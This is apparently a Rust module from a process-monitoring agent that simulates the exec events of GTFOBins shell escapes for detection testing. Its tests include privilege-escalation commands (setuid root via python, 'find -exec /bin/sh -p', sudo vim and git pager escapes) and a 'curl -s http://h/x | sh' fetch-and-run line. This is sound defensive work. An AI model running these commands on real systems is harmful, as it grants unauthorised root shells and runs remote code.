//! Turns a command example (a GTFOBins entry) into the process events Watchpost's agent
//! would record if a user ran it from a login shell: every program started, with its
//! parent, its user ids and capabilities; for an interactive program, the shell it
//! spawns when told to (`!/bin/sh` in `less`), with that program as the parent.
//!
//! It is a model, not an emulator: programs are not run. What a program does with its
//! arguments is read off the text: a shell named in its arguments, environment, input
//! or in a file the example wrote is a shell the program starts. Interpreters that
//! `exec` a shell are replaced by it (same process, the interpreter as its previous
//! image), as the kernel would do.

use super::shell::{self, SimpleCommand};
use regex::Regex;
use std::collections::HashMap;
use std::sync::LazyLock;
use watchpost_core::Event;
use watchpost_host::ProcessInfo;
use watchpost_host::users::UserNames;

/// How the example's program is run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Context {
    /// By an ordinary user.
    Unprivileged,
    /// Through `sudo`.
    Sudo,
    /// As a set-user-id-root program run by an ordinary user.
    Suid,
    /// With file capabilities (`cap_setuid`, ...) run by an ordinary user.
    Capabilities(u64),
}

/// The ordinary user's uid.
const USER: u32 = 1000;
/// Nesting of scripts in scripts that is followed.
const MAX_DEPTH: usize = 4;
/// Processes one example may start.
const MAX_PROCESSES: usize = 64;

const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "tcsh", "csh", "fish", "busybox",
];

/// Programs whose arguments name a shell that they do not start themselves: account tools
/// (`chsh -s`, `useradd -s`) and container and cluster clients (`docker exec -it web
/// /bin/sh`).
const NAMES_SHELL_ELSEWHERE: &[&str] = &[
    "chsh", "useradd", "usermod", "adduser", "docker", "podman", "nerdctl", "kubectl", "crictl",
    "ctr", "lxc", "incus",
];

/// Keys of full-screen programs that open the user's shell (ncdu's `b`, ranger's `S`):
/// typed into the program, they start a shell with it as the parent.
const SHELL_KEYS: &[(&str, &str)] = &[("ncdu", "b"), ("ranger", "S")];

/// Shell builtins: they start no process.
const BUILTINS: &[&str] = &[
    "echo", "printf", "export", "cd", "read", "set", "unset", "history", "exit", "return", "shift",
    "source", ".", "trap", "ulimit", "umask", "wait", "true", "false", "test", "[", "[[", "local",
    "declare", "alias", "type", "hash", "let", ":", "break", "continue", "reset",
];

/// Interpreters whose `exec` replaces the process rather than starting a child.
const EXEC_REPLACES: &[&str] = &[
    "perl", "ruby", "python", "python2", "python3", "irb", "jruby",
];

/// A shell named in free text, with the options that follow it.
static SHELL_IN_TEXT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?:^|[^\w/.\-])((?:ba|da|z|k|a|mk|tc|c)?sh)\b((?:[ \t]+-[pilsE]+\b)*)(?:[ \t]+-c[ \t]+(['"]?)([^'"\n]*))?|(/(?:usr/(?:local/)?)?bin/(?:ba|da|z|k|a|mk|tc|c)?sh)\b((?:[ \t]+-[pilsE]+\b)*)(?:[ \t]+-c[ \t]+(['"]?)([^'"\n]*))?|(?:^|[\s'"]):sh(?:ell)?\b"#,
    )
    .expect("valid regex")
});

/// Text just before a shell that means the program execs it in its own place.
static EXEC_BEFORE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:os\.exec\w*\(\s*|(?:^|[\s;{(])exec\s*\(?\s*)["']?$"#).expect("valid regex")
});

/// A program giving itself root's uid: `setuid(0)` in its code, `--uid=0`.
static SETUID_ROOT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"setuid\(\s*0\s*\)|--uid=0|Sys\.setuid\(0\)").expect("valid regex")
});

/// One simulated process.
#[derive(Debug, Clone)]
struct Sim {
    info: ProcessInfo,
    /// Index of the process this one replaced by exec, if any.
    previous: Option<usize>,
    /// The watched program this process's binary is a renamed copy of (what the agent
    /// finds by hash).
    copy_of: Option<String>,
    /// The distribution package that installed this set-id binary, as the agent names
    /// it from the package database.
    package: Option<&'static str>,
}

/// The model's state for one example.
struct Run<'a> {
    program: &'a str,
    context: &'a Context,
    processes: Vec<Sim>,
    files: HashMap<String, String>,
    /// Executables the example made: a copy of a program (`cp /bin/sh DIR/x`) or a
    /// symbolic link to one (`ln -s /bin/sh x`), by path.
    made: HashMap<String, Made>,
    next_pid: i32,
}

/// The events of running `code`, an example for `program`, in `context`.
pub fn simulate(program: &str, code: &str, context: &Context) -> Vec<Event> {
    simulate_prepared(program, "", code, context)
}

/// The events of running `code` after `preparation`: steps done elsewhere beforehand (a
/// class compiled offline, a package built with fpm) whose files are uploaded. Only what
/// the preparation writes is kept; its processes ran on another machine.
pub fn simulate_prepared(
    program: &str,
    preparation: &str,
    code: &str,
    context: &Context,
) -> Vec<Event> {
    let mut run = Run {
        program,
        context,
        processes: Vec::new(),
        files: HashMap::new(),
        made: HashMap::new(),
        next_pid: 1000,
    };
    // A user logged in over SSH: sshd (root) → the user's login shell.
    let sshd = run.add(None, "/usr/sbin/sshd", &["sshd: alice [priv]"], 0, 0, 0);
    let login = run.add(Some(sshd), "/bin/bash", &["-bash"], USER, USER, 0);
    let setup = run.processes.len();
    if !preparation.is_empty() {
        run.script(preparation, login, 0);
        run.processes.truncate(setup);
    }
    // Through sudo or a set-user-id bit, a program named like a shell keyword (`time`) is
    // the binary: sudo and the kernel know no keywords.
    let binary_code;
    let code = match code.strip_prefix(program) {
        Some(rest) if *context != Context::Unprivileged && shell::is_keyword(program) => {
            binary_code = format!("/usr/bin/{program}{rest}");
            binary_code.as_str()
        }
        _ => code,
    };
    run.script(code, login, 0);
    run.events(setup)
}

impl Run<'_> {
    fn add(
        &mut self,
        parent: Option<usize>,
        image: &str,
        argv: &[&str],
        uid: u32,
        euid: u32,
        caps: u64,
    ) -> usize {
        self.next_pid += 1;
        let ppid = parent.map(|p| self.processes[p].info.pid);
        self.processes.push(Sim {
            info: ProcessInfo {
                pid: self.next_pid,
                ppid,
                executable: Some(image.to_string()),
                argv: argv.iter().map(|a| a.to_string()).collect(),
                uid: Some(uid),
                euid: Some(euid),
                cap_effective: caps,
                comm: Some(basename(image).chars().take(15).collect()),
                ..ProcessInfo::default()
            },
            previous: None,
            copy_of: None,
            package: None,
        });
        self.processes.len() - 1
    }

    fn ids(&self, p: usize) -> (u32, u32, u64) {
        let info = &self.processes[p].info;
        (
            info.uid.unwrap_or(USER),
            info.euid.unwrap_or(USER),
            info.cap_effective,
        )
    }

    /// Runs `script` in the shell process `shell`.
    fn script(&mut self, script: &str, shell: usize, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        let commands = shell::parse(script);
        // Once the example's program runs and later lines follow, those lines are typed
        // into it: into a shell they are commands, into anything else they are input.
        let mut interactive: Option<(usize, usize)> = None;
        let mut previous_output: Option<String> = None;
        for command in &commands {
            if self.processes.len() >= MAX_PROCESSES {
                return;
            }
            // A later line that starts the program again is a new command, not its input.
            let restarts = command
                .words
                .first()
                .is_some_and(|w| is_program(basename(w), self.program));
            if let Some((program, line)) = interactive
                && command.line > line
                && !restarts
            {
                let text = command_text(command);
                if is_shell(self.image_name(program)) {
                    self.script(&text, program, depth + 1);
                } else if SHELL_KEYS.contains(&(self.image_name(program), text.trim())) {
                    self.spawn_named_shells(program, "/bin/bash");
                } else {
                    self.spawn_named_shells(program, &text);
                }
                continue;
            }
            let stdin = if command.piped {
                previous_output.take()
            } else {
                None
            };
            let (output, program) = self.command(command, shell, depth, stdin);
            previous_output = output;
            if let Some(program) = program
                && interactive.is_none()
            {
                interactive = Some((program, command.line));
            }
        }
    }

    /// Runs one simple command from `shell`. Returns the text it writes to standard
    /// output when that is plain (`echo`, `printf`: what a pipe passes on), and the
    /// process if it ran the example's program.
    fn command(
        &mut self,
        command: &SimpleCommand,
        shell: usize,
        depth: usize,
        stdin: Option<String>,
    ) -> (Option<String>, Option<usize>) {
        for substitution in &command.substitutions {
            self.script(substitution, shell, depth + 1);
        }
        let Some(first) = command.words.first() else {
            return (None, None);
        };
        let name = basename(first);
        let args = &command.words[1..];
        let stdin = stdin.or_else(|| command.stdin_text.clone());
        match name {
            "echo" | "printf" => {
                let text = args
                    .iter()
                    .filter(|a| !a.starts_with('-'))
                    .cloned()
                    .collect::<Vec<_>>()
                    .join(" ");
                for file in &command.writes {
                    self.files.insert(file.clone(), text.clone());
                }
                return (Some(text), None);
            }
            "exec" if !args.is_empty() => {
                let replaced = SimpleCommand {
                    words: args.to_vec(),
                    ..command.clone()
                };
                return self.exec_in_place(&replaced, shell, depth, stdin);
            }
            "eval" => {
                self.script(&args.join(" "), shell, depth + 1);
                return (None, None);
            }
            "cp" | "ln" => self.note_made(name, args),
            _ if BUILTINS.contains(&name) => return (None, None),
            _ => {}
        }
        let (uid, _, _) = self.ids(shell);
        let mut parent = shell;
        let mut words: &[String] = &command.words;
        let program = self.program;
        let runs_program = |words: &[String]| {
            words
                .first()
                .is_some_and(|w| is_program(basename(w), program))
        };
        // `sudo` as written, or added because the example is run through sudo.
        let explicit_sudo = name == "sudo";
        if explicit_sudo || (*self.context == Context::Sudo && runs_program(words)) {
            let argv: Vec<&str> = if explicit_sudo {
                words.iter().map(String::as_str).collect()
            } else {
                std::iter::once("sudo")
                    .chain(words.iter().map(String::as_str))
                    .collect()
            };
            parent = self.add(Some(shell), "/usr/bin/sudo", &argv, uid, 0, 0);
            // The machine's own sudo, as its package installed it (the agent checks the
            // binary against the package database).
            self.processes[parent].package = Some("sudo");
            if explicit_sudo {
                words = strip_sudo_options(&words[1..]);
            }
            if words.is_empty() {
                return (None, None);
            }
        }
        let is_program = runs_program(words);
        let (mut uid, mut euid, mut caps) = self.ids(parent);
        if parent != shell {
            (uid, euid) = (0, 0);
        }
        if is_program {
            match self.context {
                Context::Suid => euid = 0,
                Context::Capabilities(mask) => caps = *mask,
                _ => {}
            }
        }
        let image = resolve(&words[0]);
        let argv: Vec<&str> = words.iter().map(String::as_str).collect();
        let process = self.add(Some(parent), &image, &argv, uid, euid, caps);
        for file in &command.writes {
            if let Some(text) = &stdin {
                self.files.insert(file.clone(), text.clone());
            }
        }
        // What runs is the command after any `sudo`.
        let run = SimpleCommand {
            words: words.to_vec(),
            ..command.clone()
        };
        self.follow(process, &run, stdin.as_deref(), depth);
        (None, is_program.then_some(process))
    }

    /// The script of `sh -c SCRIPT`. A script of one simple command is exec'd in the
    /// shell's place, as bash and dash do; a longer one runs command by command.
    fn c_script(&mut self, script: &str, shell: usize, depth: usize) {
        let mut commands = shell::parse(script);
        // `exec CMD` as the whole script is the same as `CMD`.
        if let [only] = commands.as_mut_slice()
            && only.words.len() > 1
            && only.words[0] == "exec"
        {
            only.words.remove(0);
        }
        match commands.as_slice() {
            [only]
                if only.substitutions.is_empty()
                    && !only.words.is_empty()
                    && !BUILTINS.contains(&basename(&only.words[0])) =>
            {
                self.exec_in_place(only, shell, depth, only.stdin_text.clone());
            }
            _ => self.script(script, shell, depth),
        }
    }

    /// `exec COMMAND` in a shell: the command replaces the shell process.
    fn exec_in_place(
        &mut self,
        command: &SimpleCommand,
        shell: usize,
        depth: usize,
        stdin: Option<String>,
    ) -> (Option<String>, Option<usize>) {
        let image = resolve(&command.words[0]);
        let argv: Vec<&str> = command.words.iter().map(String::as_str).collect();
        let process = self.replace(shell, &image, &argv);
        self.follow(process, command, stdin.as_deref(), depth);
        let is_program = is_program(basename(&command.words[0]), self.program);
        (None, is_program.then_some(process))
    }

    /// What a started process does in turn: a shell runs its script; any other program
    /// starts the shells its arguments, environment, input and files name.
    fn follow(
        &mut self,
        process: usize,
        command: &SimpleCommand,
        stdin: Option<&str>,
        depth: usize,
    ) {
        let words = &command.words;
        let name = basename(&words[0]).to_string();
        // `busybox APPLET ...` is the applet.
        let applet = if name == "busybox" {
            words.get(1).map(String::as_str).unwrap_or("")
        } else {
            name.as_str()
        };
        if let Some(shell) = shell_with_no_command(words) {
            self.replace(process, shell, &[shell, "-i"]);
            return;
        }
        if is_shell(applet) {
            if let Some(at) = words
                .iter()
                .position(|w| w.starts_with('-') && !w.starts_with("--") && w.contains('c'))
            {
                if let Some(script) = words.get(at + 1) {
                    self.c_script(&script.clone(), process, depth + 1);
                }
                return;
            }
            // `sh FILE`: a script the example wrote.
            if let Some(text) = words[1..].iter().find_map(|w| self.files.get(w).cloned()) {
                self.script(&text, process, depth + 1);
                return;
            }
            if let Some(text) = stdin {
                self.script(text, process, depth + 1);
            }
            return;
        }
        if is_program(basename(&words[0]), self.program) {
            self.run_helpers(process, words);
        }
        // A shell these name in their arguments is an account's login shell, or runs
        // inside a container (started by the runtime) or on another node: never the
        // program's child. What their files say (kubectl's credential plugin) still runs.
        let mut texts: Vec<String> = Vec::new();
        if !NAMES_SHELL_ELSEWHERE.contains(&applet) {
            texts.push(words[1..].join(" "));
        }
        texts.extend(command.assignments.iter().map(|(_, v)| v.clone()));
        texts.extend(stdin.map(str::to_string));
        texts.extend(self.files.values().cloned());
        if is_program(basename(&words[0]), self.program)
            || texts.iter().any(|t| SETUID_ROOT.is_match(t))
        {
            for text in texts {
                self.spawn_named_shells(process, &text);
            }
        }
    }

    /// Records `cp SRC DST` and `ln -s SRC DST` of a program: DST (or DST/name of SRC for a
    /// folder) becomes a copy of, or a link to, that program.
    fn note_made(&mut self, name: &str, args: &[String]) {
        let operands: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
        let [source, target] = operands.as_slice() else {
            return;
        };
        let program = basename(source);
        if program.is_empty() || !source.contains('/') {
            return;
        }
        let target = if target.ends_with('/') {
            format!("{target}{program}")
        } else {
            target.to_string()
        };
        let made = if name == "cp" {
            Made::Copy(program.to_string())
        } else {
            Made::Link(resolve(source))
        };
        self.made.insert(target, made);
    }

    /// Helpers the program runs from what the example made. Program knowledge, kept to
    /// how programs find helpers: `git --exec-path=DIR SUB` and `zypper SUB` run
    /// `...-SUB`; `run-parts DIR` runs every file in DIR; `rustup run TOOLCHAIN CMD` runs
    /// `bin/CMD` of a linked toolchain.
    fn run_helpers(&mut self, program: usize, words: &[String]) {
        let name = basename(&words[0]).to_string();
        let operands: Vec<&str> = words[1..]
            .iter()
            .filter(|w| !w.starts_with('-'))
            .map(String::as_str)
            .collect();
        let mut run: Vec<String> = Vec::new();
        for path in self.made.keys() {
            let file = basename(path);
            let folder = path.rsplit_once('/').map_or("", |(d, _)| d);
            let by_subcommand = operands.iter().any(|sub| file == format!("{name}-{sub}"));
            let by_folder =
                name == "run-parts" && operands.iter().any(|d| d.trim_end_matches('/') == folder);
            let by_toolchain = name == "rustup"
                && operands.first() == Some(&"run")
                && operands
                    .get(2)
                    .is_some_and(|cmd| path.ends_with(&format!("/bin/{cmd}")));
            if by_subcommand || by_folder || by_toolchain {
                run.push(path.clone());
            }
        }
        run.sort();
        let (uid, euid, caps) = self.ids(program);
        for path in run {
            let made = self.made[&path].clone();
            let (image, copy_of) = match made {
                Made::Copy(original) => (path.clone(), Some(original)),
                // The kernel runs the link's target; argv[0] keeps the link's name.
                Made::Link(target) => (target, None),
            };
            let child = self.add(Some(program), &image, &[path.as_str()], uid, euid, caps);
            let renamed = copy_of.filter(|original| original != basename(&path));
            self.processes[child].copy_of = renamed;
        }
    }

    /// Starts, from `program`, every shell `text` names.
    fn spawn_named_shells(&mut self, program: usize, text: &str) {
        let interpreter = EXEC_REPLACES.contains(&self.image_name(program));
        let gains_root = SETUID_ROOT.is_match(text)
            || self.processes[program]
                .info
                .argv
                .iter()
                .any(|a| SETUID_ROOT.is_match(a));
        let mut seen = Vec::new();
        for found in SHELL_IN_TEXT.captures_iter(text) {
            let Some(whole) = found.get(0) else { continue };
            // A bare name, a path, or an editor's `:shell` (which runs the user's shell).
            let (path, flags, script) = match (found.get(1), found.get(5)) {
                (Some(name), _) => (name.as_str(), found.get(2), found.get(4)),
                (None, Some(path)) => (path.as_str(), found.get(6), found.get(8)),
                (None, None) => ("/bin/sh", None, None),
            };
            let mut argv = vec![path.to_string()];
            let flags = flags.map_or("", |m| m.as_str());
            argv.extend(flags.split_whitespace().map(str::to_string));
            if let Some(script) = script {
                argv.push("-c".into());
                argv.push(script.as_str().trim().to_string());
            }
            if seen.contains(&argv) || self.processes.len() >= MAX_PROCESSES {
                continue;
            }
            seen.push(argv.clone());
            let image = resolve(path);
            let argv_refs: Vec<&str> = argv.iter().map(String::as_str).collect();
            let before = &text[..whole.start()
                + (whole.as_str().len()
                    - whole
                        .as_str()
                        .trim_start_matches(|c: char| !c.is_ascii_alphanumeric() && c != '/')
                        .len())];
            let child = if interpreter && EXEC_BEFORE.is_match(before) {
                self.replace(program, &image, &argv_refs)
            } else {
                let (uid, euid, caps) = self.ids(program);
                self.add(Some(program), &image, &argv_refs, uid, euid, caps)
            };
            let can_setuid = self.processes[program].info.cap_effective & setuid_cap() != 0;
            let info = &mut self.processes[child].info;
            if gains_root && (info.euid == Some(0) || can_setuid) {
                info.uid = Some(0);
                info.euid = Some(0);
            } else if !flags.contains('p') && info.euid != info.uid {
                // Shells drop a set-user-id privilege unless started with -p.
                info.euid = info.uid;
            }
            if argv.len() > 2 && argv[argv.len() - 2] == "-c" {
                let script = argv[argv.len() - 1].clone();
                self.c_script(&script, child, MAX_DEPTH - 1);
            }
        }
    }

    /// `image` replaces process `p` by exec: same pid, same parent, same ids.
    fn replace(&mut self, p: usize, image: &str, argv: &[&str]) -> usize {
        let old = self.processes[p].info.clone();
        self.processes.push(Sim {
            info: ProcessInfo {
                executable: Some(image.to_string()),
                argv: argv.iter().map(|a| a.to_string()).collect(),
                comm: Some(basename(image).chars().take(15).collect()),
                ..old
            },
            previous: Some(p),
            copy_of: None,
            package: None,
        });
        self.processes.len() - 1
    }

    fn image_name(&self, p: usize) -> &str {
        self.processes[p]
            .info
            .executable
            .as_deref()
            .map(basename)
            .unwrap_or("")
    }

    /// The exec events of every process from index `from` on, as the agent builds them.
    fn events(&self, from: usize) -> Vec<Event> {
        let mut users = UserNames::from_file("/dev/null");
        let mut tree = watchpost_host::ProcessTree::default();
        let mut events = Vec::new();
        for (i, sim) in self.processes.iter().enumerate() {
            let previous = sim.previous.map(|p| self.processes[p].info.clone());
            let ancestry: Vec<ProcessInfo> = {
                tree.insert(sim.info.clone());
                tree.ancestry(sim.info.pid, 6)
                    .into_iter()
                    .cloned()
                    .collect()
            };
            if i >= from {
                let mut event =
                    watchpost_host::exec_event(&sim.info, &ancestry, previous.as_ref(), &mut users);
                if let Some(process) = event.process.as_mut() {
                    process.original_file_name = sim.copy_of.clone();
                    process.package = sim.package.map(str::to_string);
                }
                events.push(event);
            }
        }
        events
    }
}

/// An executable the example made.
#[derive(Debug, Clone)]
enum Made {
    /// A copy of the program of this name.
    Copy(String),
    /// A symbolic link to this path.
    Link(String),
}

fn setuid_cap() -> u64 {
    watchpost_host::capabilities::bit("cap_setuid").unwrap_or(0)
}

fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Programs that exec the user's shell in their place when given no command to run:
/// `chroot DIR` and `capsh --`.
fn shell_with_no_command(words: &[String]) -> Option<&'static str> {
    let name = basename(&words[0]);
    let operands = words[1..].iter().filter(|w| !w.starts_with('-')).count();
    match name {
        "chroot" if operands == 1 => Some("/bin/sh"),
        "capsh" if words.len() == 2 && words[1] == "--" => Some("/bin/bash"),
        _ => None,
    }
}

/// Whether the command `name` runs the example's `program`: the same name, or a variant
/// of it (`octave-cli` for `octave`, `mosh` for `mosh-server`).
fn is_program(name: &str, program: &str) -> bool {
    let variant = |long: &str, short: &str| {
        long.strip_prefix(short).is_some_and(|rest| {
            rest.starts_with('-') || rest.chars().all(|c| c.is_ascii_digit() || c == '.')
        })
    };
    name == program || variant(name, program) || variant(program, name)
}

fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name) && name != "busybox"
}

/// Where a command name is found: as written when it is a path, else in `/usr/bin`.
fn resolve(word: &str) -> String {
    if word.starts_with('/') {
        word.to_string()
    } else {
        format!("/usr/bin/{}", basename(word))
    }
}

/// The command after `sudo`'s own options (`-u user`, `-E`, ...).
fn strip_sudo_options(words: &[String]) -> &[String] {
    let mut at = 0;
    while let Some(word) = words.get(at) {
        if !word.starts_with('-') {
            break;
        }
        at += if matches!(
            word.as_str(),
            "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-r" | "-t" | "-U"
        ) {
            2
        } else {
            1
        };
    }
    words.get(at..).unwrap_or_default()
}

/// A command as one line of text, as typed.
fn command_text(command: &SimpleCommand) -> String {
    command
        .assignments
        .iter()
        .map(|(k, v)| format!("{k}={v}"))
        .chain(command.words.iter().cloned())
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn commands(events: &[Event]) -> Vec<(String, String, Option<String>)> {
        events
            .iter()
            .map(|e| {
                let p = e.process.as_ref().unwrap();
                (
                    p.command_line.clone().unwrap_or_default(),
                    p.parent
                        .as_ref()
                        .and_then(|pp| pp.executable.clone())
                        .unwrap_or_default(),
                    p.previous.as_ref().and_then(|pp| pp.executable.clone()),
                )
            })
            .collect()
    }

    #[test]
    fn an_interactive_escape_spawns_the_shell_from_the_program() {
        let events = simulate("less", "less /etc/hosts\n!/bin/sh", &Context::Unprivileged);
        assert_eq!(
            commands(&events),
            [
                ("less /etc/hosts".into(), "/bin/bash".into(), None),
                ("/bin/sh".into(), "/usr/bin/less".into(), None),
            ]
        );
    }

    #[test]
    fn helpers_made_from_a_shell_run_as_the_program_finds_them() {
        let events = simulate(
            "zypper",
            "cp /bin/sh /usr/lib/zypper/commands/zypper-x\nzypper x",
            &Context::Unprivileged,
        );
        let helper = events
            .iter()
            .filter_map(|e| e.process.as_ref())
            .find(|p| p.executable.as_deref() == Some("/usr/lib/zypper/commands/zypper-x"))
            .expect("zypper runs its helper");
        assert_eq!(helper.original_file_name.as_deref(), Some("sh"));
        assert_eq!(
            helper.parent.as_ref().and_then(|p| p.executable.as_deref()),
            Some("/usr/bin/zypper")
        );
        // Through a link, the kernel runs the shell itself under the link's name.
        let events = simulate(
            "git",
            "ln -s /bin/sh git-x\ngit --exec-path=. x",
            &Context::Unprivileged,
        );
        let (command, parent, _) = commands(&events).pop().unwrap();
        assert_eq!(
            (command.as_str(), parent.as_str()),
            ("git-x", "/usr/bin/git")
        );
        assert_eq!(
            events
                .last()
                .unwrap()
                .process
                .as_ref()
                .unwrap()
                .executable
                .as_deref(),
            Some("/bin/sh")
        );
    }

    #[test]
    fn a_prepared_file_is_what_the_program_runs() {
        let preparation =
            "echo 'exec /bin/sh' >x.sh\nfpm -n x -s dir -t deb --before-install x.sh .";
        let events =
            simulate_prepared("dpkg", preparation, "dpkg -i x_1.0_all.deb", &Context::Sudo);
        let c = commands(&events);
        assert!(
            !c.iter().any(|(command, _, _)| command.starts_with("fpm")),
            "the preparation's processes ran elsewhere: {c:?}"
        );
        assert_eq!(c.last().unwrap().1, "/usr/bin/dpkg", "{c:?}");
    }

    #[test]
    fn a_shell_named_for_an_account_or_a_container_is_not_started_here() {
        for line in [
            "chsh -s /bin/zsh",
            "useradd -m -s /bin/bash alice",
            "docker exec -it web /bin/sh",
            "kubectl exec -it deploy/web -- /bin/sh",
        ] {
            let program = line.split(' ').next().unwrap();
            let events = simulate(program, line, &Context::Unprivileged);
            assert_eq!(events.len(), 1, "{line}: {:?}", commands(&events));
        }
    }

    #[test]
    fn keys_that_open_a_shell_start_one_from_the_program() {
        let events = simulate("ncdu", "ncdu\nb", &Context::Unprivileged);
        assert_eq!(
            commands(&events)[1],
            ("/bin/bash".into(), "/usr/bin/ncdu".into(), None)
        );
        // Any other key is input.
        assert_eq!(simulate("ncdu", "ncdu\nq", &Context::Unprivileged).len(), 1);
    }

    #[test]
    fn a_keyword_named_program_run_through_sudo_is_the_binary() {
        let c = commands(&simulate("time", "time /bin/sh", &Context::Sudo));
        assert_eq!(
            c[1],
            ("/usr/bin/time /bin/sh".into(), "/usr/bin/sudo".into(), None)
        );
        assert_eq!(c[2].1, "/usr/bin/time");
        // Typed at a shell, `time` is the shell's keyword: the shell runs the command.
        let c = commands(&simulate("time", "time /bin/sh", &Context::Unprivileged));
        assert_eq!(c, [("/bin/sh".into(), "/bin/bash".into(), None)]);
    }

    #[test]
    fn sudo_and_suid_set_the_ids() {
        let events = simulate("find", "find . -exec /bin/sh -p \\; -quit", &Context::Suid);
        let find = events[0].process.as_ref().unwrap();
        assert_eq!(find.real_user.as_ref().unwrap().id.as_deref(), Some("1000"));
        assert_eq!(find.user.as_ref().unwrap().id.as_deref(), Some("0"));
        let shell = events[1].process.as_ref().unwrap();
        assert_eq!(shell.command_line.as_deref(), Some("/bin/sh -p"));
        assert_eq!(shell.user.as_ref().unwrap().id.as_deref(), Some("0"));

        let events = simulate("vim", "vim -c ':!/bin/sh'", &Context::Sudo);
        let c = commands(&events);
        assert_eq!(c[0].0, "sudo vim -c :!/bin/sh");
        assert_eq!(
            c[1],
            ("vim -c :!/bin/sh".into(), "/usr/bin/sudo".into(), None)
        );
        assert_eq!(c[2].1, "/usr/bin/vim");
        assert_eq!(
            events[2]
                .process
                .as_ref()
                .unwrap()
                .real_user
                .as_ref()
                .unwrap()
                .id
                .as_deref(),
            Some("0")
        );
    }

    #[test]
    fn interpreters_that_exec_are_replaced() {
        let events = simulate(
            "python",
            "python -c 'import os; os.setuid(0); os.execl(\"/bin/sh\", \"sh\")'",
            &Context::Capabilities(setuid_cap()),
        );
        let c = commands(&events);
        assert_eq!(c[1].0, "/bin/sh");
        assert_eq!(c[1].1, "/bin/bash", "the parent is the login shell");
        assert_eq!(c[1].2.as_deref(), Some("/usr/bin/python"));
        let shell = events[1].process.as_ref().unwrap();
        assert_eq!(shell.real_user.as_ref().unwrap().id.as_deref(), Some("0"));
    }

    #[test]
    fn a_pager_command_that_execs_a_shell_replaces_it() {
        let events = simulate(
            "git",
            "PAGER='/bin/sh -c \"exec sh 0<&1\"' sudo git -p help",
            &Context::Unprivileged,
        );
        let c = commands(&events);
        assert_eq!(
            c[1].0, "git -p help",
            "sudo's options and name are not git's"
        );
        assert_eq!(c[2].0, "/bin/sh -c exec sh 0<&1");
        assert_eq!(c[2].1, "/usr/bin/git");
        assert_eq!(
            c[3],
            ("sh".into(), "/usr/bin/git".into(), Some("/bin/sh".into()))
        );
    }

    #[test]
    fn shell_scripts_run_their_commands() {
        let events = simulate(
            "bash",
            "bash -c 'curl -s http://h/x | sh'",
            &Context::Unprivileged,
        );
        let c = commands(&events);
        assert_eq!(c.len(), 3);
        assert_eq!(
            c[1],
            ("curl -s http://h/x".into(), "/usr/bin/bash".into(), None)
        );
        assert_eq!(c[2].0, "sh");
    }
}
